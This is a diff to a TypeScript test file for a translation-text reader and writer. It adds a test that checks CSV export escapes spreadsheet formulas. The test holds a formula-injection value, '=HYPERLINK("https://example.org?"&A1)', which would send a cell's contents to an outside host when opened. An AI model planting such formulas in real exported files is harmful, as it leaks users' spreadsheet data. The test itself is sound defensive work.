@@ -1,4 +1,4 @@
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import * as fc from 'fast-check';
@@ -35,6 +35,15 @@ describe.each(['csv', 'json', 'po', 'xlf'])('a file of texts as %s', (extension)
       { numRuns: 100 },
     );
   });
+});
+
+it('writes no text of a colleague as a formula of a spreadsheet', () => {
+  const path = join(folder, 'formulas.csv');
+  const formula = '=HYPERLINK("https://example.org?"&A1)';
+  const written = [{ resource: 'A', key: 'a', source: formula, target: `-1+${formula}` }];
+  writeTexts(path, { units: written, sourceCulture: 'en', targetCulture: 'fr' });
+  expect(readFileSync(path, 'utf8')).toMatch(/"'=HYPERLINK\(.*"'-1\+=HYPERLINK\(/);
+  expect(readTexts(path)).toEqual(written);
 });
 
 it('refuses a text that a PO file would not give back', () => {
